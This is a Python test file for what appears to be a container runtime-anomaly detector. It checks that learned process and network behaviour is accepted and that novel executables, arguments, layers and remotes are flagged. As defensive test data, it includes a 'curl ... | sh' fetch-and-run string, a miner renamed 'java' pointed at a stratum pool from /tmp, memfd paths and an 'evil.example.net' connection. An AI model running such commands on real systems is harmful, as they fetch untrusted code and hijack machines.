# SPDX-License-Identifier: Apache-2.0
"""Profiles: learned ⇒ known, the three steps, snapshots."""

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from habitus.events import Container, Event, Network, Peer, Pod, Process
from habitus_profiler import snapshot
from habitus_profiler.convergence import Learning, Rule
from habitus_profiler.forms import Form
from habitus_profiler.judgement import Ask, Limits, Miss
from habitus_profiler.leaf import Leaf
from habitus_profiler.profile import Profile
from habitus_profiler.report import detail, summary

LIMITS = Limits(max_children=4, max_vectors=8, threshold=None)
RULE = Rule(window_s=60, epsilon=0, min_events=3)
THRESHOLD = 0.65
FAR = [
    f"{word}-{tail}"
    for word in ("quux", "zyxwvut", "plugh", "xyzzy", "garply")
    for tail in ("ab", "cd", "ef", "gh")
]
"""Words that are near to none of a few others."""

words = st.sampled_from(
    ["-c", "sh", "curl http://a.example/x | sh", "/tmp/x", "-v", "42", "origin", "http://10.0.0.9/", "A=1"]
)  # fmt: skip
argvs = st.lists(words | st.text(max_size=12), min_size=1, max_size=5)


def fresh(limits=LIMITS):
    return Profile("webapp:v1", 3, limits, Learning(RULE))


def execed(argv, *, exe=None, name="java", parent="bash"):
    process = Process(exe=exe or f"/usr/bin/{name}", name=name, parent=parent, argv=list(argv))
    return Event(ts=1, class_="process", op="exec", container=Container(image="webapp:v1"), process=process)


def complete(profile, vector_of):
    for leaf, text in profile.pending():
        profile.resolve(leaf, text, vector_of(text), THRESHOLD)


def learned(vector_of, *events):
    profile = fresh()
    for event in events:
        profile.learn(event)
    complete(profile, vector_of)
    profile.detect(1)
    return profile


def verdict(profile, event, vector_of):
    """Return the reason, or None."""
    found = profile.judge(event)
    if isinstance(found, Ask):
        found = profile.settle(found, vector_of(found.form.text), THRESHOLD)
    return found.reason if isinstance(found, Miss) else None


@given(st.lists(argvs, max_size=8))
def test_learned_is_known_without_a_vector(lines):
    """No model is asked for what was seen."""
    profile = fresh()
    for argv in lines:
        profile.learn(execed(argv))
    profile.detect(1)
    assert [profile.judge(execed(argv)) for argv in lines] == [None] * len(lines)


@given(st.lists(argvs, max_size=8), argvs, st.randoms(use_true_random=False))
def test_the_order_of_learning_does_not_matter_to_paths_forms_and_slots(lines, asked, random):
    """What needs no vector is judged alike, whatever came first."""
    shuffled = list(lines)
    random.shuffle(shuffled)
    verdicts = []
    for order in (lines, shuffled):
        profile = fresh()
        for argv in order:
            profile.learn(execed(argv))
        profile.detect(1)
        found = profile.judge(execed(asked))
        verdicts.append((type(found), getattr(found, "reason", None), getattr(found, "detail", None)))
    assert verdicts[0] == verdicts[1]


@given(lines=st.lists(argvs, max_size=6))
def test_a_snapshot_is_the_profile(lines):
    """parse ∘ serialise is the identity: the same bytes again, the same figures."""
    profile = fresh()
    for number, argv in enumerate(lines):
        profile.learn(execed(argv))
        profile.applied.add(number + 7)
    for leaf, text in profile.pending():
        row = np.zeros(16, np.float32)
        row[len(text) % 16] = 1
        profile.resolve(leaf, text, row, THRESHOLD)
    data = snapshot.sealed(profile, "s")
    again = snapshot.parsed(data, LIMITS, RULE, "s")
    assert snapshot.sealed(again, "s") == data
    assert again.applied == profile.applied
    profile.bytes = again.bytes
    moving = {"convergence": {"seconds", "curve"}}
    assert summary(again).model_dump(exclude=moving) == summary(profile).model_dump(exclude=moving)
    assert detail(again, 10).tries == detail(profile, 10).tries


def test_sequences_of_another_stream_say_nothing():
    """A stream that was made anew counts from 1 again."""
    profile = fresh()
    profile.applied = {1, 2}
    data = snapshot.sealed(profile, "old")
    assert snapshot.parsed(data, LIMITS, RULE, "new").applied == set()


def test_a_snapshot_of_the_schema_before_keeps_what_it_learned_as_no_news(vector_of, monkeypatch):
    """Telling words and entries were no slots then: they are read from the forms."""
    lines = [["gunicorn", "shop.wsgi:app", "--name", name] for name in ("admin", "orders")]
    profile = learned(vector_of, *(execed(line, name="gunicorn") for line in lines))
    for leaf in profile.leaves():
        for kind in ("word", "entry"):
            del leaf.slots.seen[kind]
    asked = execed(["gunicorn", "shop.wsgi:app", "--name", "admin", "--workers", "2"], name="gunicorn")
    for schema, expected in (
        ("1.0", None),
        ("1.1", None),
        ("1.4", None),
        ("1.5", None),
        ("1.6", "novel-slot"),
    ):
        with monkeypatch.context() as patch:
            patch.setattr(snapshot, "SCHEMA", schema)
            data = snapshot.sealed(profile, "s")
        again = snapshot.parsed(data, LIMITS, RULE, "s")
        assert verdict(again, asked, vector_of) == expected, schema


def test_a_snapshot_of_before_keeps_buckets_owners_and_trees_as_no_news(vector_of, monkeypatch):
    """They were known by other slots then."""
    line = ["app", "s3://corp-data/a", "--image=quay.io/corp/a", "--map=shop/a"]
    profile = learned(vector_of, execed(line, name="app"), execed(["app", "other/a"], name="app"))
    for leaf in profile.leaves():
        leaf.slots.seen["remote"] = {"corp-data", "quay.io"}
        leaf.slots.seen["tree"] = {"other"}
    asked = execed([*line, "--workers", "2"], name="app")
    for schema, expected in (("1.4", None), ("1.5", None), ("1.6", "novel-slot")):
        with monkeypatch.context() as patch:
            patch.setattr(snapshot, "SCHEMA", schema)
            data = snapshot.sealed(profile, "s")
        again = snapshot.parsed(data, LIMITS, RULE, "s")
        assert verdict(again, asked, vector_of) == expected, schema


@pytest.mark.parametrize("at", [0, 5, 40, -1])
def test_a_damaged_snapshot_is_refused(at):
    """One flipped bit is enough."""
    profile = fresh()
    profile.learn(execed(["java", "-jar", "app.jar"]))
    data = bytearray(snapshot.sealed(profile, "s"))
    data[at] ^= 1
    with pytest.raises(snapshot.SnapshotFault):
        snapshot.parsed(bytes(data), LIMITS, RULE, "s")


def test_a_miner_renamed_java_falls_at_the_leaf(vector_of):
    """The path is known; the program's place, its name on the command line and its pool are not."""
    profile = learned(vector_of, *(execed(["java", "-jar", "app.jar", f"--id={n}"]) for n in range(5)))
    mining = ["./java", "-o", "stratum+tcp://pool.example:4444"]
    found = profile.judge(execed(mining, exe="/tmp/java"))
    assert isinstance(found, Miss)
    assert found.reason == "novel-slot"
    assert "/tmp/java" in found.detail
    assert verdict(profile, execed(mining), vector_of) == "novel-slot"
    assert verdict(profile, execed(mining, name="xmrig"), vector_of) == "unknown-path"
    assert verdict(profile, execed(mining, parent="nginx"), vector_of) == "unknown-path"


def test_the_same_program_in_another_directory_of_the_image_is_the_same(vector_of):
    """/usr/local/bin/java after /usr/bin/java, but no memfd and nothing deleted."""
    profile = learned(vector_of, execed(["java", "-version"]))
    assert verdict(profile, execed(["java", "-version"], exe="/usr/local/bin/java"), vector_of) is None
    for exe in ("memfd:java (deleted)", "/usr/bin/java (deleted)", "/dev/shm/java", "/run/java", "./java"):
        assert verdict(profile, execed(["java", "-version"], exe=exe), vector_of) == "novel-slot", exe


def test_cosine_decides_only_what_slots_leave_open(vector_of):
    """A near word is known, a far one is not, a novel slot is never."""
    lines = [["git", "fetch", "origin", f"release-candidate-{word}"] for word in ("alpha", "beta")]
    profile = learned(vector_of, *(execed(line, name="git") for line in lines))
    near = ["git", "fetch", "origin", "release-candidate-gamma"]
    assert verdict(profile, execed(near, name="git"), vector_of) is None
    far = ["git", *FAR]
    assert verdict(profile, execed(far, name="git"), vector_of) == "unknown-argument"
    assert verdict(profile, execed([*near, "--upload-pack=id"], name="git"), vector_of) == "novel-slot"


def test_changing_ids_never_count_as_news_and_near_forms_neither(vector_of):
    """News is what neither the normal form nor the cosine absorbs."""
    profile = fresh()
    for number in range(50):
        profile.learn(execed(["java", "-jar", "app.jar", f"--id={number}"]))
        complete(profile, vector_of)
    first = profile.learning.progress.new
    for word in ("alpha", "beta", "gamma"):
        profile.learn(execed(["java", "-jar", "app.jar", "--id=1", word]))
        complete(profile, vector_of)
    assert profile.learning.progress.new == first
    profile.learn(execed(["java", "-jar", "app.jar", "--id=1", "--trust-all"]))
    complete(profile, vector_of)
    assert profile.learning.progress.new == first + 1


def test_a_profile_lacks_nothing_before_it_is_ready(vector_of):
    """Vectors still asked for hold convergence up; what they bring counts from when it is known."""
    profile = fresh()

    def work(first, last):
        for second in range(first, last, 5):
            event = execed(["java", *FAR] if second else ["java"])
            event.ts = (1_764_000_000 + second) * 10**9
            profile.learn(event)

    work(0, 200)
    assert profile.learning.converged()
    assert not profile.ready()
    complete(profile, vector_of)
    assert not profile.ready()
    work(200, 300)
    assert profile.ready()


def test_another_model_asks_for_every_vector_again(vector_of):
    """Vectors of two models are never compared."""
    profile = learned(vector_of, execed(["java", "a"]), execed(["java", "b", "c"]))
    profile.speaks("one")
    assert not profile.lacks_vectors
    profile.speaks("two")
    assert len(profile.pending()) == 2
    complete(profile, vector_of)
    assert sum(len(leaf.texts) for leaf in profile.leaves()) > 0


def test_vectors_are_capped(vector_of):
    """However many forms, a leaf keeps `max_vectors`."""
    profile = learned(vector_of, *(execed(["java", f"{chr(97 + n) * 9}"]) for n in range(20)))
    assert all(len(leaf.texts) <= LIMITS.max_vectors for leaf in profile.leaves())


def test_vectors_are_kept_once_and_as_float16():
    """A form that a stored vector means by the threshold is absorbed; a component takes two bytes at rest."""
    leaf = Leaf()
    texts = ["java one", "java two", "java far"]
    near, far = np.zeros((2, 8), np.float32)
    near[0] = far[1] = 1.0
    for text, vector in zip(texts, (near, near, far), strict=True):
        leaf.learn("/usr/bin/java", Form(text, ()))
        leaf.resolve(text, vector, 0.9, 256)
    assert leaf.texts == ["java one", "java far"]
    assert leaf.absorbed == {"java two"}
    assert leaf.vectors.dtype == np.float16
    assert leaf.vectors.shape == (2, 8)


def test_unseen_falls_as_habits_repeat(vector_of):
    """Good–Turing over forms and leaves; confidence follows it."""
    once = learned(vector_of, execed(["java", "a"]))
    often = learned(vector_of, *(execed(["java", "a"]) for _ in range(50)))
    assert once.unseen == 1
    assert often.unseen == 0
    assert often.confidence > 0.9 > once.confidence


def connected(*, name="java", token=b"", **fields):
    network = Network(**{"direction": "egress", "protocol": "tcp", "remote_port": 443, **fields})
    return Event(
        ts=1,
        class_="network",
        op="connect",
        container=Container(image="webapp:v1"),
        process=Process(name=name),
        network=network,
        token=token,
    )


def test_a_new_remote_on_a_known_port_is_a_drift_of_its_own(vector_of):
    """A new peer, a new port of a known peer and both at once are told apart."""
    profile = learned(vector_of, connected(domain="a.example.com"), connected(domain="b.example.com"))
    assert verdict(profile, connected(domain="evil.example.net"), vector_of) == "new-remote"
    assert verdict(profile, connected(domain="a.example.com", remote_port=22), vector_of) == "unknown-path"
    assert verdict(profile, connected(domain="evil.example.net", remote_port=22), vector_of) == "unknown-path"
    assert verdict(profile, connected(domain="a.example.com", name="sh"), vector_of) == "unknown-path"


def test_a_peer_without_a_name_in_the_dns_is_its_pod_and_then_its_network(vector_of):
    """Another address of the same workload is known; another workload at that address is not."""
    web, db = (Peer(pod=Pod(f"{name}-7d4b9c6f5-x2k9p", "shop")) for name in ("web", "db"))
    profile = learned(vector_of, connected(remote_ip="10.0.0.9", peer=web))
    other = Peer(pod=Pod("web-55f6d8b9c-zzqhk", "shop"))
    assert verdict(profile, connected(remote_ip="10.7.7.7", peer=other), vector_of) is None
    assert verdict(profile, connected(remote_ip="10.0.0.9", peer=db), vector_of) == "new-remote"
    assert verdict(profile, connected(remote_ip="10.0.0.9"), vector_of) == "new-remote"


def test_what_is_known_by_its_pod_alone_is_not_held_back_by_its_network(vector_of):
    """The kernel's token stands for the network, which others share: it must not be told as known."""
    web = Peer(pod=Pod("web-0", "shop"))
    profile = learned(vector_of, connected(remote_ip="10.0.0.9", peer=web), connected(remote_ip="10.1.0.9"))
    for _ in range(2):
        by_pod = connected(remote_ip="10.0.0.9", peer=web, token=b"t")
        by_network = connected(remote_ip="10.1.0.7", peer=web, token=b"t")
        assert profile.judge(by_pod) is None
        assert profile.judge(by_network) is None
        assert (by_pod.token, by_network.token) == (b"", b"t")


def test_a_program_that_was_replaced_in_the_writable_layer_is_a_novel_slot(vector_of):
    """Path and arguments are the same, the file is not the image's; where no layer is told, none counts."""
    event = execed(["java", "-jar", "app.jar"])
    event.process.exe_class = "image"
    profile = learned(vector_of, event)
    for layer, expected in (
        ("image", None),
        ("writable", "novel-slot"),
        ("memory", "novel-slot"),
        (None, None),
    ):
        again = execed(["java", "-jar", "app.jar"])
        again.process.exe_class = layer
        assert verdict(profile, again, vector_of) == expected
    untold = learned(vector_of, execed(["java", "-jar", "app.jar"]))
    again.process.exe_class = "writable"
    assert verdict(untold, again, vector_of) is None


def test_a_profile_of_before_knows_what_its_forms_tell_in_the_words_of_today(vector_of):
    """Objects without a dotted module, and settings as unsafe as before, are no news after an upgrade."""
    learned_line = ["uvicorn", "main:app", "--environment", "development", "--port", "8080"]
    profile = learned(vector_of, execed(learned_line, name="uvicorn"))
    leaf = next(iter(profile.leaves()))
    for kind in ("entry", "switch"):
        leaf.slots.seen.pop(kind, None)
    again = execed([*learned_line, "--workers", "4"], name="uvicorn")
    assert verdict(profile, again, vector_of) == "novel-slot"
    leaf.retell()
    assert verdict(profile, again, vector_of) is None
